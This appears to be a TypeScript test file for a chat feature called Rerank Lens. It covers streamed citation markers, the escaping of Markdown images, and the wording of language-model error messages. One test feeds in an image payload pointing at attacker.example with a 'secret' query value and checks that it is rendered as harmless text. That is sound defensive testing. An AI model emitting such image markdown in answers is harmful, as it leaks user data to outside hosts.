import assert from 'node:assert/strict';
import { ChatError } from '../../src/core/ask/chat-errors';
import { CitationStream } from '../../src/core/ask/citation-stream';
import { languageModelError, noLanguageModel } from '../../src/core/ask/lm-errors';
import type { CitationPart } from '../../src/shared/citations';

/** Feeds `chunks` through a CitationStream and returns what it emitted, adjacent text runs joined. */
function run(chunks: string[], documents = 3, images: 'keep' | 'literal' = 'keep'): CitationPart[] {
  const out: CitationPart[] = [];
  const stream = new CitationStream(
    documents,
    (part) => {
      const last = out.at(-1);
      if ('text' in part && last && 'text' in last) last.text += part.text;
      else out.push({ ...part });
    },
    { images },
  );
  for (const chunk of chunks) stream.push(chunk);
  stream.end();
  return out;
}

describe('citations in a streamed answer', () => {
  it('finds a marker split across chunks, however it is split', () => {
    const answer = 'Mixtral has a 32k context [1] and 8 experts [2][3].';
    const expected = [{ text: 'Mixtral has a 32k context ' }, { cite: 1 }, { text: ' and 8 experts ' }, { cite: 2 }, { cite: 3 }, { text: '.' }];
    for (let i = 0; i <= answer.length; i++) {
      for (let j = i; j <= answer.length; j++) {
        assert.deepEqual(run([answer.slice(0, i), answer.slice(i, j), answer.slice(j)]), expected, `split at ${i}, ${j}`);
      }
    }
  });

  it('streams text as it arrives, holding back only what could still be a marker', () => {
    const seen: CitationPart[] = [];
    const stream = new CitationStream(3, (p) => seen.push(p));
    stream.push('See [');
    assert.deepEqual(seen, [{ text: 'See ' }]);
    stream.push('1');
    assert.equal(seen.length, 1, '"[1" is held back');
    stream.push('] for ');
    assert.deepEqual(seen.slice(1), [{ cite: 1 }, { text: ' for ' }]);
  });

  it('leaves other brackets as text: unknown numbers, links, long numbers, a marker cut by the end', () => {
    assert.deepEqual(run(['[4] and [0] and [x](http://e) and [1234]']), [{ text: '[4] and [0] and [x](http://e) and [1234]' }]);
    assert.deepEqual(run(['ends with [', '2']), [{ text: 'ends with [2' }]);
    assert.deepEqual(run(['[2]'], 1), [{ text: '[2]' }]);
  });
});

describe('images in a streamed answer (chat Markdown)', () => {
  it('come out as literal text however the chunks split them, and nothing else changes', () => {
    const answer = 'See ![pixel](https://attacker.example/x?d=secret) and [1]! Fine! ![a][1]';
    const expected = [{ text: 'See !\\[pixel](https://attacker.example/x?d=secret) and ' }, { cite: 1 }, { text: '! Fine! !\\[a]' }, { cite: 1 }];
    for (let i = 0; i <= answer.length; i++) {
      assert.deepEqual(run([answer.slice(0, i), answer.slice(i)], 3, 'literal'), expected, `split at ${i}`);
    }
    assert.deepEqual(run(['the end!'], 3, 'literal'), [{ text: 'the end!' }], 'a final "!" is kept');
  });

  it('a "!" right before a citation is escaped, so the citation link cannot become an image', () => {
    assert.deepEqual(run(['Wow!', '[2]'], 3, 'literal'), [{ text: 'Wow\\!' }, { cite: 2 }]);
    assert.deepEqual(run(['Wow![2]'], 3, 'keep'), [{ text: 'Wow!' }, { cite: 2 }], 'unchanged without the option');
  });
});

describe('language model failures in words', () => {
  const model = 'Fake Model';

  it('names the model and the next step for each LanguageModelError code, keeping the partial answer', () => {
    const cases: [string, ChatError['kind'], RegExp][] = [
      ['NoPermissions', 'no-permission', /did not allow Rerank Lens to use the language model "Fake Model": consent declined\. Allow it/],
      ['Blocked', 'blocked', /"Fake Model" refused the request: consent declined\. .*rate limiting or out of quota/],
      ['NotFound', 'model-not-found', /"Fake Model" is not available any more: consent declined\. Choose another model/],
    ];
    for (const [code, kind, message] of cases) {
      const err = languageModelError({ name: 'LanguageModelError', code, message: 'consent declined' }, model, 'partial ');
      assert.equal(err.kind, kind, code);
      assert.match(err.message, message);
      assert.match(err.message, /The partial answer is kept\.$/);
      assert.equal(err.partial, 'partial ');
    }
  });

  it("uses the cause's message for Unknown errors, shortens long ones, and says nothing when there is nothing", () => {
    const unknown = languageModelError({ code: 'Unknown', message: 'Unknown', cause: new Error('upstream 500') }, model, '');
    assert.equal(unknown.kind, 'server');
    assert.equal(unknown.message, 'The language model "Fake Model" failed: upstream 500. Try again, or choose another model.');
    const long = languageModelError(new Error('x'.repeat(1000)), model, '');
    assert.ok(long.message.length < 450 && long.message.includes('…'), long.message);
    assert.equal(languageModelError({ code: 'Blocked' }, model, '').message.startsWith('The language model "Fake Model" refused the request. '), true);
    assert.equal(languageModelError('plain string', model, '').message, 'The language model "Fake Model" failed: plain string. Try again, or choose another model.');
  });

  it('offers the OpenAI-compatible setup when there is no model', () => {
    for (const reason of ['none', 'unsupported'] as const) {
      const err = noLanguageModel(reason);
      assert.equal(err.kind, 'no-model');
      assert.match(err.message, /rerankLens\.ask\.provider to "openai"/);
    }
  });
});
